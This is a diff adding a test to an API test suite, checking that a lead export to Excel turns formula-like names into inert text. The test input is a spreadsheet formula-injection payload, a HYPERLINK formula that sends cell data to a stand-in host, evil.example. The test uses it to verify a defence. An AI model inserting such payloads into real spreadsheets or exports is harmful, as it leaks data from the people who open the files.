@@ -156,6 +156,24 @@ describe('audit log and personal-data rights', () => {
     expect(leadExport.after).toMatchObject({ filters: { source: 'AUTOHOME' }, rows: expect.any(Number) });
   });
 
+  it('exports text that starts like a formula as inert text (a leading apostrophe); numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
+    const created = await api().post('/api/leads').set(bearer(manager)).send({ name, mobile: uniqueMobile(), source: 'HOTLINE', storeId: 1, intendedModelId: 1, budgetMin: 150000 });
+    expect(created.status).toBe(201);
+    const exported = await api().get('/api/leads/export?source=HOTLINE').set(bearer(manager)).buffer(true).parse(binaryBody);
+    expect(exported.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(exported.body as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0];
+    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((candidate) => candidate.getCell(1).value === created.body.id)!;
+    const cell = row.getCell(2);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.formula).toBeUndefined();
+    expect(cell.value).toBe(`'${name}`);
+    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
+    expect(row.getCell(9).value).toBe(1500);
+  });
+
   it('shows a full mobile to a role that sees it masked only on request, and audits each look', async () => {
     const mobile = uniqueMobile();
     const lead = (await api().post('/api/leads').set(bearer(manager)).send({ name: '查看号码', mobile, source: 'HOTLINE', storeId: 1 })).body as { id: number };
